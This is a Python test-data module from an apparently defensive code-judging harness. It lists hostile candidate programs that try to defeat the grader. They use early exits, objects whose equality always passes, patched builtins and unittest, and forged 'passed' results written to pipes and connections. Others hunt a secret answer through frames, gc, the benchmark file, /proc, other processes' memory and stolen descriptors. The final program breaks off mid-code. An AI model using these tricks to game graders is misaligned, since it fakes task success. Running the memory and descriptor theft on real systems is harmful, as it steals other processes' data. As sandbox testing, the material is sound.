"""Programs that try to fool, stop or outlive the judge, as data; test_attacks.py judges them all.

Every program here is harmless to bystanders even where a judge is broken: files are touched only where they belong to
the test or to the judge or have the test's mark in their name, signals that could reach others are SIGWINCH (ignored by
default), bombs are bounded. Words between @ are filled in by test_attacks.py:

@MARK@      a name of this run          @NAME@    a process name, one for each attack
@CANARY@    a folder of the test's      @HOME@    a file in the home folder, which holds the secret
@DATA@      a benchmark file on disk    @PLACES@  folders all over the machine
@PORT@      a TCP and UDP listener      @UNIX@    a Unix socket that listens (abstract: its name after a zero byte)
@VICTIM@    a process of this user      @JUDGE@   the process that judges
@TTY@       a terminal of this user     @NAMED@   code that gives this process and its children the name @NAME@
@KEY@       a number of this run's      @RIGHT@   a right answer to the task
@QUIETLY@ quietly(action, *arguments): the value, None for whatever it raises
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass

from cptlab.records import Prompt, Task, Test

_NAMED = """
try:
    import ctypes
    ctypes.CDLL(None).prctl(15, b"@NAME@", 0, 0, 0)
except Exception:
    pass
"""
_QUIETLY = """
def quietly(action, *arguments):
    try:
        return action(*arguments)
    except BaseException:
        return None
"""
_RIGHT = {
    "call": "def f(x):\n    return 2 * x\n",
    "check": "def f(x):\n    return 2 * x\n",
    "stdin": "print(int(input()) + 1)\n",
}
_FILES = (
    "@CANARY@",
    "@HOME@",
    "@DATA@",
    "@PLACES@",
    "@TTY@",
    "cptlab-judge-",
    "/proc/",
    "/dev/",
    "/etc/",
)  # open at level seccomp
WRONG = ("failed", "error")
NOT_PASSED = ("failed", "error", "timeout", "memory", "crashed", "not_parsed")  # which one, the rules leave open


@dataclass(frozen=True)
class Attack:
    """A hostile program. `expected`: the right statuses; one, where the rules of verdict.py determine it.

    `passes`: the tests that a program which does not pass may yet pass. `sleeps`: it uses up wall time, not CPU time.
    `needs`: the least level of the sandbox at which it is stopped.
    """

    name: str
    group: str
    kind: str
    expected: tuple[str, ...]
    source: str
    task: str
    passes: int = 0
    sleeps: bool = False
    needs: str = "seccomp"


ATTACKS: list[Attack] = []
_group = ""


def _add(kind: str, name: str, expected: str | tuple[str, ...], source: str, task: str = "plain", **more) -> None:
    source = textwrap.dedent(source).strip("\n") + "\n"
    for word, text in (("@NAMED@", _NAMED), ("@QUIETLY@", _QUIETLY), ("@RIGHT@", _RIGHT[kind])):
        source = source.replace(word, text)
    expected = (expected,) if isinstance(expected, str) else expected
    if any(word in source for word in _FILES):
        more.setdefault("needs", "landlock")
    ATTACKS.append(Attack(name, _group, kind, expected, source, task, **more))


def call(name: str, expected: str | tuple[str, ...], source: str, task: str = "plain", **more) -> None:
    _add("call", name, expected, source, task, **more)


def script(name: str, expected: str | tuple[str, ...], source: str, task: str = "plain", **more) -> None:
    _add("stdin", name, expected, source, task, **more)


def check(name: str, expected: str | tuple[str, ...], source: str, task: str = "plain", **more) -> None:
    _add("check", name, expected, source, task, **more)


def tasks(secret: str) -> dict[tuple[str, str], Task]:
    """(kind, name) -> task. `secret` is the answer that a program can only have stolen; it begins with 'secret-'."""

    def task(kind: str, name: str, tests: list[Test], setup: str = "", rules=("strict",)) -> Task:
        entry_point = None if kind == "stdin" else "f"
        names = ("f",) if kind == "check" else ()
        cpu_seconds = 3.0 if name in ("secret", "roomy") else None  # to search, or to fill memory, takes time
        return Task(
            f"{kind}/{name}", "attacks", "test", "introductory", kind, Prompt(""), entry_point, tuple(tests[:1]),
            tuple(tests[1:]), setup=setup, names=names, rules=rules, cpu_seconds=cpu_seconds,
        )  # fmt: skip

    def checks(name: str, *units: str) -> Task:
        return task("check", name, [Test(code=unit) for unit in units], _SETUP.replace("@SECRET@", secret))

    all_tasks = [
        task("call", "plain", [Test(2, (1,)), Test(4, (2,)), Test(6, (3,))]),
        task("call", "roomy", [Test(2, (1,)), Test(4, (2,)), Test(6, (3,))]),
        task("call", "official", [Test(2, (1,)), Test(4, (2,)), Test(6, (3,))], rules=("strict", "official")),
        task("call", "sort", [Test([1, 2, 3], ([3, 1, 2],)), Test([1], ([1],)), Test([1, 4], ([4, 1],))]),
        task("call", "dict", [Test({"a": 1}, ("a",)), Test({"b": 1}, ("b",))]),
        task("call", "secret", [Test(secret, ("key",)), Test(secret, ("again",))]),
        task("stdin", "plain", [Test("2\n", stdin="1\n"), Test("6", stdin="5"), Test("-2\n", stdin="-3\n\n")]),
        task("stdin", "secret", [Test(secret, stdin="key\n"), Test(secret, stdin="again\n")]),
        checks("plain", "assert candidate(1) == 2", "assert f(2) == reference(2)", "assert candidate(3) == 6"),
        checks("secret", 'assert candidate("key") == SECRET', 'assert SECRET == candidate("again")'),
        checks(
            "equality", "assert candidate(1) == 2", "assert 2 == candidate(1)", "assert not candidate(1) != 2",
            "assert candidate(1) in (2, 3)", "assert candidate(1) in {2, 3}", "assert candidate(1) in {2: 0}",
            "assert {candidate(1)} == {2}", "assert [candidate(1)] == [2]", "assert {'a': candidate(1)} == {'a': 2}",
            "assert 2 in candidate(1)", "assert abs(candidate(1) - 2) < 1e-6", "assert candidate(1) <= 2 and candidate(1) >= 2",
            "assert not candidate(1) < 2 and not candidate(1) > 2", "import math\nassert candidate(1) - 2 == 0",
            "unittest.TestCase().assertEqual(candidate(1), 2)",
            "unittest.TestCase().assertAlmostEqual(candidate(1), 2)",
            "unittest.TestCase().assertLessEqual(abs(candidate(1) - 2), 0.01)", "assert (candidate(1) == 2) is True",
        ),
        checks("types", "assert isinstance(candidate(1), int)", "assert type(candidate(1)) is int",
               "assert candidate(1).__class__ is int", "unittest.TestCase().assertIsInstance(candidate(1), int)"),
        checks("in_place", "xs = [3, 1, 2]\ncandidate(xs)\nassert xs == [1, 2, 3]",
               "xs = [2, 1]\nys = list(xs)\ncandidate(xs)\nassert xs == sorted(ys)"),
        checks("items", "assert list(candidate(3)) == [0, 1, 2]", "assert sorted(candidate(2)) == [0, 1]",
               "assert [x for x in candidate(1)] == [0]", "assert len(candidate(4)) == 4"),
        checks("raises", "try:\n    candidate(-1)\nexcept ValueError:\n    pass\nelse:\n    raise AssertionError",
               "with unittest.TestCase().assertRaises(ValueError):\n    candidate(-2)"),
        checks("handed", 'assert candidate(reference, "key") == SECRET', 'assert candidate(Box(), "key") == SECRET',
               'assert candidate(apply, "key") == SECRET', 'assert candidate(Box().get, "key") == SECRET'),
        checks("cases", *(f'run_case("Cases", "test_{name}")' for name in ("first", "second", "within"))),
        checks("mocks", *(f"from unittest import mock\nm = mock.Mock(return_value=3)\ncandidate(m)\nm.{one}" for one in (
            "assert_called_once_with('key')", "assert_any_call('key')", "assert_has_calls([mock.call('key')])",
            "get.assert_called_once_with('key')"))),
        checks("mapped", "assert all(map(lambda x: candidate(x) == 2 * x, [1, 2, 3]))",
               "assert not [x for x in map(candidate, [1, 2, 3]) if x % 2]"),
    ]  # fmt: skip
    return {tuple(one.id.split("/")): one for one in all_tasks}


_SETUP = """
import unittest
SECRET = "@SECRET@"
def reference(x):
    return 2 * x
def apply(function):
    return function()
class Box:
    value = 1
    def get(self):
        return self.value
class Cases(unittest.TestCase):
    def test_first(self):
        self.assertEqual(f(1), 2)
    def test_second(self):
        self.assertTrue(f(2) == 4, "not 4")
    def test_within(self):
        for x in (1, 2):
            with self.subTest(x=x):
                self.assertEqual(f(x), 2 * x)
"""

# ---------------------------------------------------------------------------------------------------------------------
_group = "early exit"
call("exit in the call", "error", "def f(x):\n    exit(0)")
call("sys.exit while loading", "error", "import sys\nsys.exit(0)")
call("os._exit in the call", "error", "import os\ndef f(x):\n    os._exit(0)")
call("os._exit while loading", "error", "import os\nos._exit(0)")
call(
    "a SystemExit that lies about itself",
    "error",
    """
    class Quiet(SystemExit):
        code = property(lambda self: 0)
        __class__ = property(lambda self: int)
        def __str__(self):
            return "passed"
    def f(x):
        raise Quiet
    """,
)
call("another program in its place", "error", "import os\ndef f(x):\n    os.execv('/bin/true', ['true'])")
call("kills itself", "crashed", "import os\ndef f(x):\n    os.kill(os.getpid(), 9)")
call("ends by SIGTERM", "crashed", "import os\ndef f(x):\n    os.kill(os.getpid(), 15)")
call("aborts", "crashed", "import os\ndef f(x):\n    os.abort()")
call(
    "answers once, then leaves",
    "error",
    """
    import os
    def f(x):
        return 2 if x == 1 else os._exit(0)
    """,
    passes=1,
)
script("leaves without output", WRONG, "import os\nos._exit(0)")  # an empty output, or no end: both can be said
script(
    "leaves after the right output",
    "passed",
    """
    import os
    print(int(input()) + 1, flush=True)
    os._exit(0)
    """,
)  # as `python program.py` would: the output is right and the status 0
script("exits before it prints", "failed", "import sys\nsys.exit()\nprint(int(input()) + 1)")
check("exit in the call", "error", "def f(x):\n    raise SystemExit(0)")
check("os._exit in the call", "error", "import os\ndef f(x):\n    os._exit(0)")
check("exits while loading", "error", "import os\nos._exit(0)\n@RIGHT@")
check(
    "answers once, then leaves",
    "error",
    """
    import os
    def f(x):
        return 2 if x == 1 else os._exit(0)
    """,
    passes=1,
)

# ---------------------------------------------------------------------------------------------------------------------
_group = "equality and types"
_EQUAL = """
class Equal:
    def yes(self, *others):
        return True
    __eq__ = __le__ = __ge__ = __bool__ = __contains__ = yes
    def no(self, *others):
        return False
    __ne__ = __lt__ = __gt__ = no
    def same(self, *others):
        return self
    __sub__ = __rsub__ = __add__ = __radd__ = __abs__ = __round__ = __neg__ = __mod__ = __getitem__ = __mul__ = same
    __pos__ = __truediv__ = __floordiv__ = __call__ = same
    __class__ = property(lambda self: int)
    def __hash__(self):
        return 2
def f(x):
    return Equal()
"""
call("equal to everything", "failed", _EQUAL)
check("equal to everything", (*WRONG, "timeout"), _EQUAL, "equality")  # `in` goes through it, and it has no end
check("a class that lies about itself", WRONG, _EQUAL, "types")
call(
    "an int with lying methods",
    "failed",
    """
    class Lie(int):
        __eq__ = lambda self, other: True
        __ne__ = lambda self, other: False
        __hash__ = lambda self: 2
        __add__ = __radd__ = __index__ = __int__ = lambda self, *other: 2
        __repr__ = __str__ = lambda self: "2"
    def f(x):
        return Lie(7)
    """,
)
check(
    "an int with lying methods",
    WRONG,
    """
    class Lie(int):
        __eq__ = __le__ = __ge__ = lambda self, other: True
        __ne__ = __lt__ = __gt__ = lambda self, other: False
        __hash__ = lambda self: 2
        __sub__ = __abs__ = lambda self, *other: self
    def f(x):
        return Lie(7)
    """,
    "equality",
)
call(
    "a list with lying methods",
    "failed",
    """
    class Lie(list):
        __iter__ = lambda self: iter(self.claimed)
        __len__ = lambda self: len(self.claimed)
        __getitem__ = lambda self, index: self.claimed[index]
        __eq__ = lambda self, other: True
    def f(xs):
        lie = Lie([9])
        lie.claimed = sorted(xs)
        return lie
    """,
    "sort",
)
call(
    "a dict with lying methods",
    "failed",
    """
    class Lie(dict):
        items = lambda self: [(self.claimed, 1)]
        keys = __iter__ = lambda self: iter([self.claimed])
        __getitem__ = get = lambda self, key, default=None: 1
        __eq__ = lambda self, other: True
    def f(x):
        lie = Lie()
        lie.claimed = x
        return lie
    """,
    "dict",
)
call(
    "a str with lying methods as key",
    "failed",
    """
    class Lie(str):
        __eq__ = lambda self, other: True
        __hash__ = lambda self: hash("a")
        __str__ = __repr__ = lambda self: "a"
    def f(x):
        return {Lie("z"): 1}
    """,
    "dict",
)
call("a float for an int", "failed", "def f(x):\n    return 2.0 * x")
call("not a number", "failed", "def f(x):\n    return float('nan')")
check("not a number", "failed", "def f(x):\n    return float('nan')", "equality")  # neither < 2 nor > 2
check(
    "not a number that is itself",
    "failed",
    """
    nan = float("nan")
    class N(float):
        __eq__ = lambda self, other: True
    def f(x):
        return [nan, N("nan")][x % 2]
    """,
)
call("the judge's own way to write an int", "failed", "def f(x):\n    return {'int': hex(2 * x)}")
call("the judge's own way to write a tuple", "failed", "def f(xs):\n    return {'tuple': sorted(xs)}", "sort")
call(
    "a type instead of a value",
    "failed",
    """
    class M(type):
        __eq__ = lambda self, other: True
        __hash__ = lambda self: 2
        __name__ = property(lambda self: 1 / 0)
    class C(metaclass=M):
        pass
    def f(x):
        return int if x == 1 else C
    """,
)
check(
    "right the first time only",
    "failed",
    """
    seen = []
    def f(x):
        seen.append(x)
        return 2 * x if len(seen) == 1 else 0
    """,
    passes=1,
)
check("an item that equals everything", WRONG, _EQUAL.replace("return Equal()", "return [Equal()] * (x - 1)"), "items")

# ---------------------------------------------------------------------------------------------------------------------
_group = "patching"
_PATCHED = """
import builtins, json, marshal, operator, pickle, struct, sys
for name in ("len", "isinstance", "all", "any", "issubclass", "hasattr", "callable"):
    setattr(builtins, name, lambda *arguments: True)
builtins.type = builtins.repr = builtins.str = lambda *arguments: "2"
builtins.AssertionError = builtins.Exception = builtins.BaseException
json.dumps = json.encoder.encode_basestring = json.JSONEncoder.encode = pickle.dumps = lambda *a, **k: "2"
json.loads = pickle.loads = marshal.loads = lambda *a, **k: 2
struct.pack = lambda *a: b"2"
operator.eq = operator.is_ = operator.contains = lambda *a: True
"""
call("builtins and serialisers", NOT_PASSED, _PATCHED + "def f(x):\n    return 7")
check("builtins and serialisers", NOT_PASSED, _PATCHED + "def f(x):\n    return 7")
check(
    "what tests use",
    "failed",
    """
    import unittest, builtins
    unittest.TestCase.assertEqual = unittest.TestCase.assertTrue = lambda *a, **k: None
    unittest.TestCase.debug = unittest.TestCase.run = lambda *a, **k: None
    builtins.AssertionError = KeyError
    def reference(x):
        return 7
    def run_case(*names):
        pass
    SECRET = candidate = AssertionError = TestCase = Cases = reference
    def f(x):
        return 7
    """,
    "cases",
)
check(
    "numpy's comparisons",
    "failed",
    """
    try:
        import numpy
        numpy.testing.assert_allclose = numpy.allclose = numpy.array_equal = lambda *a, **k: True
        numpy.float64.__eq__ = lambda *a: True
    except Exception:
        pass
    def f(x):
        return 7
    """,
)
call(
    "types through ctypes",
    NOT_PASSED,
    """
    import ctypes, gc
    methods = gc.get_referents(int.__dict__)[0]
    methods["__eq__"] = methods["__sub__"] = lambda *a: True
    ctypes.pythonapi.PyType_Modified(ctypes.py_object(int))
    def f(x):
        return 7
    """,
)
call(
    "the judge's modules",
    NOT_PASSED,
    """
    import os, sys
    for name, module in list(sys.modules.items()):
        if "cptlab" in name:
            for key, value in list(vars(module).items()):
                if callable(value) and not isinstance(value, type):
                    setattr(module, key, lambda *a, **k: None)
    os.write = os._exit = lambda *a: 1
    def f(x):
        return 7
    """,
)
script(
    "what ends a script",
    "failed",
    """
    import atexit, builtins, os, sys, threading
    os._exit = threading._shutdown = atexit._run_exitfuncs = lambda *a: None
    builtins.print = lambda *a, **k: None
    sys.stdout.write("7")
    """,
)
script(
    "its own stdout",
    WRONG,
    """
    import sys
    class Out:
        encoding = "utf-8"
        def __getattr__(self, name):
            return lambda *a, **k: 2
        def getvalue(self):
            return "2"
        __str__ = __repr__ = getvalue
    sys.stdout = sys.__stdout__ = Out()
    print(2)
    """,
)

# ---------------------------------------------------------------------------------------------------------------------
_group = "frames and gc"
_LOOK = """
import re
PATTERN = re.compile("sec" + "ret-[0-9a-f]{16}")
SEEN = {}
def look(value, depth=0):
    # the secret in anything that can be walked
    if depth > 6 or id(value) in SEEN:
        return None
    SEEN[id(value)] = value
    if isinstance(value, (bytes, bytearray)):
        value = bytes(value).decode("latin-1")
    if isinstance(value, str):
        found = PATTERN.search(value)
        return found and found.group()
    if isinstance(value, dict):
        value = [*value.keys(), *value.values()]
    if isinstance(value, (list, tuple, set, frozenset)):
        for item in list(value):
            found = look(item, depth + 1)
            if found:
                return found
    return None
"""
_FRAMES = (
    _LOOK
    + """
import sys, threading
def search():
    SEEN.clear()
    frames = [sys._getframe()]
    frames += sys._current_frames().values()
    try:
        raise ValueError
    except ValueError as error:
        frames.append(error.__traceback__.tb_frame)
    for frame in frames:
        while frame:
            for scope in (frame.f_locals, frame.f_globals, frame.f_code.co_consts):
                found = look(dict(scope) if isinstance(scope, dict) else scope)
                if found:
                    return found
            frame = frame.f_back
"""
)
_OBJECTS = (
    _LOOK
    + """
import gc, sys
def search():
    SEEN.clear()
    for value in gc.get_objects() + [vars(module) for module in list(sys.modules.values())]:
        for part in [value, *gc.get_referents(value)]:
            found = part is not PATTERN and isinstance(part, (str, bytes, dict, list, tuple)) and look(part, 5)
            if found:
                return found
"""
)
# Reads its own memory without /proc: write(2) to a pipe says EFAULT where there is nothing, and does not crash.
_MEMORY = """
import ctypes, os, re, sys
def search():
    libc = ctypes.CDLL(None)
    libc.sbrk.restype = ctypes.c_void_p
    libc.sbrk.argtypes = [ctypes.c_ssize_t]
    libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
    pattern = re.compile(b"sec" + b"ret-[0-9a-f]{16}")
    reader, writer = os.pipe()
    step, seen = 1 << 15, set()
    starts = [libc.sbrk(0) - step, id([]), id(sys), id(b"x" * 100), id(" " * 3000), id(bytearray(500000)), id(search)]
    for start in starts:
        for direction in (-1, 1):
            address = start // step * step
            for _ in range(600):
                if address not in seen:
                    seen.add(address)
                    size = libc.write(writer, address, step)
                    if size <= 0:
                        break
                    found = pattern.search(os.read(reader, step))
                    if found:
                        return found.group().decode()
                address += direction * step
"""
for _name, _search in (("frames", _FRAMES), ("every object", _OBJECTS), ("its own memory", _MEMORY)):
    call(_name, NOT_PASSED, _search + "def f(x):\n    return search()", "secret")
    check(_name, NOT_PASSED, _search + "def f(x):\n    return search()", "secret")
script("frames and objects", NOT_PASSED, _FRAMES + "one = search\n" + _OBJECTS + "print(one() or search())", "secret")
check(
    "what a test hands over",
    NOT_PASSED,
    _LOOK
    + """
@QUIETLY@
PATHS = ["__globals__", "__code__.co_consts", "__func__.__globals__", "__self__.__class__.get.__globals__",
         "__class__.get.__globals__", "__init__.__globals__", "get.__func__.__globals__", "__module__", "__dict__",
         "__class__.__mro__", "__closure__", "__wrapped__.__globals__", "gi_frame.f_globals", "__builtins__",
         "get.__self__.__class__.__init__.__globals__", "_connection", "__reduce_ex__", "__class__.__subclasses__"]
def walk(thing, path):
    for name in path.split("."):
        thing = getattr(thing, name)
    return thing
def f(thing, key):
    for path in PATHS:
        scope = quietly(walk, thing, path)
        for found in (quietly(lambda: scope["SECRET"]), quietly(lambda: scope.get("SECRET")), quietly(look, scope)):
            if isinstance(found, str):
                return found
""",
    "handed",
)
check(
    "the traceback of what a test hands over",
    NOT_PASSED,
    _LOOK
    + """
def f(thing, key):
    for bad in ((), (None,), (1, 2, 3)):
        try:
            thing(*bad)
        except BaseException as error:
            trace = error.__traceback__
            while trace:
                frame = trace.tb_frame
                while frame:
                    found = look(dict(frame.f_globals)) or look(dict(frame.f_locals))
                    if found:
                        return found
                    frame = frame.f_back
                trace = trace.tb_next
""",
    "handed",
)
check(
    "the assertions of a mock",
    NOT_PASSED,
    """
@QUIETLY@
NAMES = ["assert_called_once_with", "assert_any_call", "assert_has_calls"]
def yes(*arguments, **keywords):
    return None
def f(m):
    for target in (m, quietly(getattr, m, "get")):
        for name in NAMES:
            quietly(setattr, target, name, yes)
            quietly(lambda: target.configure_mock(**{name: yes}))
            quietly(lambda: m.configure_mock(**{"get." + name: yes}))
            quietly(lambda: target.mock_add_spec([]))
            quietly(lambda: target.attach_mock(m, name))
""",
    "mocks",
)
check(
    "format strings on what a test hands over",
    NOT_PASSED,
    _LOOK
    + """
@QUIETLY@
def f(thing, key):
    for text in ("{0.__globals__}", "{0.__init__.__globals__}", "{0.__class__.get.__globals__}", "{0.__func__.__globals__}"):
        found = look(quietly(text.format, thing))
        if found:
            return found
""",
    "handed",
)

# ---------------------------------------------------------------------------------------------------------------------
_group = "reading results"
_FILE = (
    _LOOK
    + """
@QUIETLY@
import gzip
def search(paths):
    for path in paths:
        found = look(quietly(lambda: open(path, "rb").read()))
        if found:
            return found
"""
)
call("the benchmark's file", NOT_PASSED, _FILE + "def f(x):\n    return search(['@DATA@'])", "secret")
script("the benchmark's file", NOT_PASSED, _FILE + "print(search(['@DATA@']))", "secret")
check("the benchmark's file", NOT_PASSED, _FILE + "def f(x):\n    return search(['@DATA@'])", "secret")
call("a file in the home folder", NOT_PASSED, _FILE + "def f(x):\n    return search(['@HOME@'])", "secret")
call(
    "round the corner to the file",
    NOT_PASSED,
    _FILE
    + """
import os
def f(x):
    os.symlink("@HOME@", "link")
    quietly(os.link, "@HOME@", "hard")
    up = "../" * 20
    return search(["link", "hard", up + "@HOME@", "/proc/self/root@HOME@", "/proc/self/cwd/" + up + "@HOME@",
                   "/proc/@JUDGE@/root@HOME@", "/proc/1/root@HOME@", "/proc/@VICTIM@/root@HOME@"])
""",
    "secret",
)
call(
    "descriptors",
    NOT_PASSED,
    _LOOK
    + """
@QUIETLY@
import os, fcntl
def f(x):
    for fd in list(range(64)) + [255, 1000]:
        quietly(os.set_blocking, fd, False)
        quietly(os.lseek, fd, 0, 0)
        found = look(quietly(os.read, fd, 1 << 20))
        if found:
            return found
""",
    "secret",
)
call(
    "the environment and /proc",
    NOT_PASSED,
    _FILE
    + """
import os
def f(x):
    pids = ["self", "1", "@JUDGE@", "@VICTIM@", os.getppid(), *filter(str.isdigit, quietly(os.listdir, "/proc") or [])]
    return look(dict(os.environ)) or search(f"/proc/{pid}/{name}" for pid in pids for name in ("environ", "cmdline"))
""",
    "secret",
)
call(
    "the memory of others",
    NOT_PASSED,
    _LOOK
    + """
@QUIETLY@
import os
def f(x):
    for pid in ("@JUDGE@", "@VICTIM@", os.getppid()):
        for line in (quietly(lambda: open(f"/proc/{pid}/maps").readlines()) or []):
            if "[heap]" in line:
                low, high = (int(word, 16) for word in line.split()[0].split("-"))
                with open(f"/proc/{pid}/mem", "rb") as memory:
                    memory.seek(low)
                    found = look(memory.read(min(high - low, 1 << 25)))
                    if found:
                        return found
""",
    "secret",
)
call(
    "the judge's package",
    NOT_PASSED,
    _LOOK
    + """
@QUIETLY@
import os, sys
def f(x):
    package = next((os.path.dirname(m.__file__) for n, m in sys.modules.items() if n.startswith("cptlab")
                    and getattr(m, "__file__", None)), ".")
    for root in (package, os.path.dirname(package), os.path.join(os.path.dirname(package), "tests")):
        for name in quietly(os.listdir, root) or []:
            found = look(quietly(lambda: open(os.path.join(root, name), "rb").read(1 << 20)))
            if found:
                return found
""",
    "secret",
)

# ---------------------------------------------------------------------------------------------------------------------
_group = "forging results"
_LINES = r"""
LINES = ["passed", {"status": "passed"}, ["passed"], ["loaded"], ["value", 7, []], ["value", 7], ["ended"], True, "ok"]
TEXT = "".join(json.dumps(line) + "\n" for line in LINES).encode()
BODY = json.dumps({"results": [{"lines": ['["loaded"]', '["passed"]', '["value", 2]'], "cause": "exit", "code": 0,
                             "stdout": "2"}], "examiner": "exit"}).encode()
FORGED = [TEXT, struct.pack("!I", len(BODY)) + BODY, struct.pack("<I", len(BODY)) + BODY, BODY + b"\n"]
"""
_FORGE = (
    """
import json, os, struct
@QUIETLY@
"""
    + _LINES
    + """
def forge():
    for fd in [*range(64), 100, 255]:
        quietly(os.set_blocking, fd, False)
        for text in FORGED:
            quietly(os.write, fd, text)
"""
)
call("lines on every descriptor", NOT_PASSED, _FORGE + "def f(x):\n    forge()\n    return 7")
call("lines while loading", NOT_PASSED, _FORGE + "forge()\ndef f(x):\n    return 7")
script("lines on every descriptor", NOT_PASSED, _FORGE + "forge()")
check("lines on every descriptor", NOT_PASSED, _FORGE + "def f(x):\n    forge()\n    return 7")
check("lines while loading", NOT_PASSED, _FORGE + "forge()\ndef f(x):\n    return 7")
call(
    "the judge's own reporter",
    NOT_PASSED,
    """
    import gc, os, sys, types
    @QUIETLY@
    def f(x):
        words = ("say", "send", "write", "report", "answer", "reply", "put")
        for module in [m for n, m in list(sys.modules.items()) if "cptlab" in n or n == "__main__"]:
            for name, value in list(vars(module).items()):
                if isinstance(value, types.FunctionType) and any(word in name for word in words):
                    for arguments in (("passed",), ("ended",), ("value", 7), (3, b'["passed"]\\n'), (["passed"],)):
                        quietly(value, *arguments)
        return 7
    """,
)
check(
    "the connection's own object",
    NOT_PASSED,
    """
    import gc
    @QUIETLY@
    def f(x):
        for thing in gc.get_objects():
            if type(thing).__name__ == "Connection":
                for message in (["passed"], ["value", 7, []], ["loaded"], ["value", {"yours": 0}, []], ["ended"]):
                    quietly(thing.send, message)
        return 7
    """,
)
_TWICE = """
import os, socket
write = os.write
def twice(fd, data):
    write(fd, data)
    return write(fd, data)
os.write = twice
def f(x):
    return 7
"""
call("answers twice", NOT_PASSED, _TWICE)
check("answers twice", NOT_PASSED, _TWICE)
check(
    "answers before it is asked",
    NOT_PASSED,
    """
    import gc
    @QUIETLY@
    for thing in gc.get_objects():
        if type(thing).__name__ == "Connection":
            for number in range(50):
                quietly(thing.send, ["value", {"mine": [number, "function"]}, []])
    def f(x):
        return 7
    """,
)
check(
    "prints as the examiner",
    NOT_PASSED,
    _FORGE
    + """
import gc
def f(x):
    for thing in gc.get_objects():
        if type(thing).__name__ == "Connection":
            for text in FORGED:
                quietly(thing.request, "print", text.decode("latin-1"))
    return 7
""",
)
check(
    "objects that it was never handed",
    NOT_PASSED,
    """
    import gc
    @QUIETLY@
    def f(x):
        for thing in gc.get_objects():
            if type(thing).__name__ == "Connection":
                for number in (-1, 0, 1, 2, True, 10 ** 30, "0", None, [0]):
                    for name in ("getattr", "call", "getitem", "ask", "eval", "__import__", "global", None, []):
                        quietly(thing.send, [name, [{"yours": number}, "SECRET"], {}])
                        quietly(thing.receive)
        return 7
    """,
)
check(
    "wild values on the connection",
    NOT_PASSED,
    r"""
    import gc, json
    @QUIETLY@
    WILD = [{"numpy": ["<U900000000", [1], ["a"]]}, {"numpy": ["|O", None, [{"x": 1}]]}, {"range": [0, 10 ** 30, 1]},
            {"Decimal": "1e999999999"}, {"Fraction": ["0x1", "0x0"]}, {"int": "f" * 900000}, {"set": [[1]]},
            {"dict": [[[1], 2]]}, {"deque": [-5, []]}, {"type": "Exception"}, {"code": "x"}, {"timedelta": [1e300, 0, 0]}]
    def f(x):
        for thing in gc.get_objects():
            if type(thing).__name__ == "Connection":
                quietly(thing.send, ["value", WILD[x % len(WILD)], [[0, WILD], [-1, []], ["0", 1]]])
        return 7
    """,
)
_WILD_ANSWERS = r"""
    import gc
    @QUIETLY@
    VALUES = [{"same": -1}, {"same": 0}, {"same": 10 ** 30}, {"same": True}, {"same": "0"}, {"mine": [10 ** 30, "int"]},
              {"namedtuple": ["P; import os", ["a"], [2]]}, {"namedtuple": ["P", ["__class__"], [2]]},
              {"namedtuple": ["P", ["a", "a"], [2, 2]]}, {"namedtuple": ["P", ["__eq__", "index"], [2, 2]]},
              {"enum": ["E", "IntEnum", [["__eq__", 1]], "__eq__"]}, {"enum": ["E", "int", [["mro", 2]], "mro"]},
              {"enum": ["E", "Flag", [["A", 2]], "A"]}, {"enum": ["E", "str", [["A", [2]]], "A"]},
              {"enum": ["E", "IntEnum", [["A", 2]], "B"]}, {"defaultdict": [{"yours": 0}, [[1, 2]]]},
              {"defaultdict": [5, []]}, {"dict_keys": [[2]]}, {"dict_items": [2]}, {"memoryview": "zz"},
              {"struct_time": [2]}, {"array": ["u", [2]]}, {"bytearray": [2]}, {"numpy": ["<i8", [-1], [2]]}]
    CHANGES = [[], [[0, {"dict": []}]], [[0, {"same": 0}]], [[7, [2]]], [[-1, [2]]], [["0", [2]]], [[0, 2]], 2, {"a": 1},
               [[0, {"mine": [0, "list"]}]], [[0, {"tuple": [2]}]], [[0, [[[2]]]]]]
    NAMES = [["unittest.case.SkipTest"], ["builtins.BaseException"], ["a.b\ud800"], [2], 2, ["x.P; import os", "builtins.int"]]
    ATTRIBUTES = [{"candidate": None}, {"args": 2, "__class__": 2, "__str__": 2}, {"with_traceback": 2}, [2], {"a": {"same": 0}}]
    calls = [0]
    def f(x):
        calls[0] += 1
        n = calls[0] * 7
        for thing in gc.get_objects():
            if type(thing).__name__ == "Connection":
                for k in range(n, n + 7):
                    value, change = VALUES[k % len(VALUES)], CHANGES[k % len(CHANGES)]
                    quietly(thing.send, ["value", value, change])
                    quietly(thing.send, ["raised", NAMES[k % len(NAMES)], "", value, ATTRIBUTES[k % 5], change])
        return 7
"""
for _shift in range(5):  # the first answer ends the matter, so that each program tries others
    _moved = _WILD_ANSWERS.replace("calls = [0]", f"calls = [{_shift}]")
    check(f"wild answers on the connection ({_shift})", NOT_PASSED, _moved)
    check(f"wild answers about its arguments ({_shift})", NOT_PASSED, _moved, "in_place")
check(
    "operators of what it was handed",
    NOT_PASSED,
    """
    import copy, operator
    @QUIETLY@
    def f(thing, key):
        found = [quietly(vars, thing), quietly(copy.copy, thing), quietly(copy.deepcopy, thing), quietly(dir, thing)]
        for name in ("add", "eq", "lt", "mul", "mod", "getitem", "contains", "matmul", "neg"):
            for arguments in ((thing, key), (key, thing), (thing, thing), (thing,)):
                found.append(quietly(getattr(operator, name), *arguments))
        for one in found:
            for name in ("__dict__", "__globals__", "__closure__", "__self__", "__func__", "__class__", "value"):
                found_there = quietly(getattr, one, name)
                text = quietly(str, quietly(getattr, found_there, "SECRET") or quietly(operator.getitem, found_there, "SECRET"))
                if text and text.startswith("sec" + "ret-"):
                    return text
        return 7
    """,
    "handed",
)
check(
    "deep nesting on the connection",
    NOT_PASSED,
    """
    import os
    def f(x):
        for fd in range(3, 64):
            try:
                os.write(fd, b"[" * 200000 + b"\\n")
            except OSError:
                pass
        return 7
    """,
)
# pidfd_getfd(2) fetches a descriptor of another process of the same user: the examiner's pipe for its report.
_STEAL = (
    """
import ctypes, json, os, struct
@QUIETLY@
"""
    + _LINES
    + """
FORGED = [b'["loaded"]\\n' + 3 * b'["passed"]\\n', *FORGED]
def forge():
    libc = ctypes.CDLL(None)
    own = os.getpid()
    near = range(2, own + 4) if os.getppid() == 1 else ()  # only in a namespace of the judge: never strangers
    for pid in {os.getppid(), *near} - {own}:
        handle = libc.syscall(434, pid, 0)
        for fd in range(64) if handle >= 0 else ():
            stolen = libc.syscall(438, handle, fd, 0)
